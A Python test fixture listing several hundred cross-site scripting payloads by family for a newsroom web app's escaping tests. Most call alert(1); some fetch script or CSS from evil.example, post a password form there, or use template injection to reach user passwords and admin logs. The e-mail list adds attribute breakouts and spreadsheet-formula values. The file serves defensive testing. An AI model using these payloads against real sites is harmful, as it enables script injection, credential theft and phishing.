"""Hostile strings for tests/test_xss_corpus.py: the classic XSS vectors, by family.

Written for this suite from the well-known families of cross-site scripting
(OWASP's filter evasion cheat sheet, the HTML5 Security Cheatsheet, the
mutation-XSS papers): none of them needs to run to be recognised, so each
calls ``alert(1)`` or points at ``evil.example``. Every one is at most 150
characters, so it fits most of the newsroom's text fields whole; a field
that is shorter keeps the payload's first part (still hostile, and still
unique in the corpus thanks to the caller's suffix where the field must be
unique).
"""

TAB, NEWLINE = "\t", "\n"

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<!--<script>alert(1)</script>-->",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\t=alert(1)>",
    "<img src=x onerror=alert&#40;1&#41;>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<x onclick=alert(1)>click me",
    "<object data=x onerror=alert(1)></object>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<frameset onload=alert(1)>",
]

DANGEROUS_URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    f'<a href="java{TAB}script:alert(1)">x</a>',
    f'<a href="java{NEWLINE}script:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="jav&NewLine;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<img src="javascript:alert(1)">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg><use href="data:image/svg+xml,<svg id=x><image href=1 onerror=alert(1)/>">',
]

STYLE_INJECTION = [
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<p style="position:fixed;inset:0;z-index:9999">cover</p>',
    '" style="x:expression(alert(1))',
]

ATTRIBUTE_BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '"/><svg onload=alert(1)>',
    '" ><img src=x onerror=alert(1)>',
    "` onmouseover=alert(1) `",
    "x onmouseover=alert(1) y=",
    '"; alert(1); "',
    '\\"; alert(1); //',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    '" href="javascript:alert(1)',
]

SCRIPT_BREAKOUTS = [
    "</script><script>alert(1)</script>",
    "</SCRIPT ><script>alert(1)</script>",
    "</script\t><img src=x onerror=alert(1)>",
    '"}]</script><script>alert(1)</script>',
    '"};alert(1);//',
    "<!--<script>",
    "<\\/script><script>alert(1)<\\/script>",
    "\u2028alert(1)\u2029",
]

ENTITY_TRICKS = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#0000060script&#0000062alert(1)&#0000060/script&#0000062",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;img src=x onerror=alert(1)&gt;",
]

UNICODE_TRICKS = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<script>alert\u2028(1)</script>",
    "\x0b<img src=x onerror=alert(1)>\x0c",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "\U0001f4f0 <script>alert('\U0001f4a5')</script>",
    "e\u0301<svg onload=alert(1)>",
]

TEMPLATE_INJECTION = [
    "{{ 7*7 }}",
    "{% debug %}",
    "{{ request.user.password }}",
    "{% load log %}{% get_admin_log 10 as log %}{{ log }}",
    '{% include "admin/base.html" %}',
    "{% autoescape off %}<script>alert(1)</script>{% endautoescape %}",
    "${7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
]

MISCELLANEOUS = [
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="https://evil.example" target="_blank">tabnab</a>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name=password></form>',
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="#" id=x name=x>dom clobbering</a>',
]

FAMILIES = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "dangerous URLs": DANGEROUS_URLS,
    "SVG and MathML": SVG_AND_MATHML,
    "style injection": STYLE_INJECTION,
    "attribute breakouts": ATTRIBUTE_BREAKOUTS,
    "script breakouts": SCRIPT_BREAKOUTS,
    "entity tricks": ENTITY_TRICKS,
    "unicode tricks": UNICODE_TRICKS,
    "template injection": TEMPLATE_INJECTION,
    "miscellaneous": MISCELLANEOUS,
}

PAYLOADS = [payload for family in FAMILIES.values() for payload in family]

# E-mail addresses that pass Django's validator (RFC 5321's dot-atom allows
# quotes, equals signs, braces and backticks) and would break out of an
# attribute or a template if anything printed them raw.
HOSTILE_EMAILS = [
    "x'onmouseover='alert`1`'@example.com",
    "a'autofocus'onfocus='alert`1`@example.com",
    "{{7*7}}@example.com",
    "{%debug%}@example.com",
    "x/onload=alert`1`@example.com",
    "x&y=1@example.com",
    # Formulas to a spreadsheet, should the list be exported as CSV.
    "=1+1@example.com",
    "+SUM1-cmd@example.com",
    "-2+3@example.com",
]
